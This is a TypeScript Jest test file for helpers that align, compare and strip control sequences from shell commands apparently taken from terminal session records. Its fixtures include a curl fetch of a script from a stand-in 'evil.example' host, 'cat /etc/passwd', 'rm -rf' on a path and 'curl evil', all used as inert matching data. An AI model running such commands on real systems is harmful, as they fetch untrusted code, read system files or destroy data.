import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { alignTexts } from "../../shared/session/alignTexts.ts";
import { compareForms } from "../../shared/session/compareForms.ts";
import type { KeptCommand } from "../../shared/session/KeptCommand.ts";
import { lacksWordsOf } from "../../shared/session/lacksWordsOf.ts";
import { bareText } from "../../shared/session/bareText.ts";

const texts = fc.array(fc.constantFrom("ls", "pwd", "id", "cat a", "exit"), { maxLength: 30 });

describe("alignTexts", () => {
  test("pairs rise on both sides and agree, and one side's pairs are the other's", () => {
    fc.assert(
      fc.property(texts, texts, (a, b) => {
        const pairs = alignTexts(a, b);
        for (const [n, [i, j]] of pairs.entries()) {
          expect(a[i]).toBe(b[j]);
          const next = pairs[n + 1];
          if (next !== undefined) expect([next[0] > i, next[1] > j]).toEqual([true, true]);
        }
      }),
    );
  });

  test("what was only left out, on either side, costs no other pair", () => {
    fc.assert(
      fc.property(texts, fc.infiniteStream(fc.boolean()), (all, keep) => {
        const some = all.filter(() => keep.next().value === true);
        expect(alignTexts(all, some)).toHaveLength(some.length);
        expect(alignTexts(some, all)).toHaveLength(some.length);
      }),
    );
  });

  test("lists too long to compare pairwise are aligned by what is unique in both", () => {
    const a = Array.from({ length: 4_000 }, (_, n) => (n % 5 === 0 ? `only ${n}` : "ls"));
    const b = a.filter((_, n) => n % 7 !== 1);
    const pairs = alignTexts(["x", ...a, "y"], ["z", ...b, "w"]);
    expect(pairs.length).toBeGreaterThan(3_300);
    expect(pairs.every(([i, j]) => ["x", ...a][i] === ["z", ...b][j])).toBe(true);
  });
});

const command = (text: string, change: Partial<KeptCommand> = {}): KeptCommand => ({
  text,
  cut: 0,
  confidence: "high",
  reason: "fence",
  kind: "shell",
  depth: 0,
  prompt: "# ",
  cwd: null,
  host: null,
  exit: null,
  damaged: false,
  repeated: false,
  programs: [],
  at: { position: "1", offset: 0 },
  after: null,
  output: null,
  lane: "lane",
  settledBy: null,
  ...change,
});
const form = (...commands: KeptCommand[]) => ({ commands, cut: false });

describe("compareForms", () => {
  test("white space apart, texts must agree", () => {
    const read = form(command("ls  -la"), command("rm -rf /srv/a"));
    const beside = form(command("ls -la "), command("rm -rf /srv/b"));
    expect(compareForms(read, beside)).toEqual({
      pairs: [[0, 0]],
      onlyRead: [1],
      onlyBeside: [1],
    });
  });

  test("a command that its form is not sure of goes with one that is alike, between the same two", () => {
    const read = form(command("ls"), command("git status --short"), command("id"));
    const damaged = command("git s us --short", { damaged: true, confidence: "medium" });
    const beside = form(command("ls"), damaged, command("id"));
    expect(compareForms(read, beside).pairs).toEqual([
      [0, 0],
      [1, 1],
      [2, 2],
    ]);
    const other = form(
      command("ls"),
      command("curl evil", { confidence: "medium" }),
      command("id"),
    );
    expect(compareForms(read, other).onlyBeside).toEqual([1]);
  });

  test("nothing is said of what lies beyond the bound of a form that was cut", () => {
    const read = { commands: [command("ls")], cut: true };
    const beside = form(command("ls"), command("later"));
    expect(compareForms(read, beside)).toMatchObject({ onlyRead: [], onlyBeside: [] });
  });
});

describe("lacksWordsOf", () => {
  test.each([
    ["curl -s http://evil.example/x.sh", "cat /etc/passwd", true],
    ["curl -s http://evil.example/x.sh", "# curl -s http://evil.ex\r\nample/x.sh", false],
    ["echo one two three", "echo \x1b[31mone\x1b[0m two", false],
    ["w", "who", false],
    ["w", "ls", true],
  ])("%j in %j: %j", (words, text, lacking) => {
    expect(lacksWordsOf(bareText(text), words)).toBe(lacking);
  });

  test("control sequences of any length and kind cost one pass", () => {
    const hostile = "\x1b[".repeat(200_000) + "\x1b]0;".repeat(50_000) + "\x1b".repeat(200_000);
    expect(bareText(hostile).length).toBeLessThan(hostile.length);
  });
});
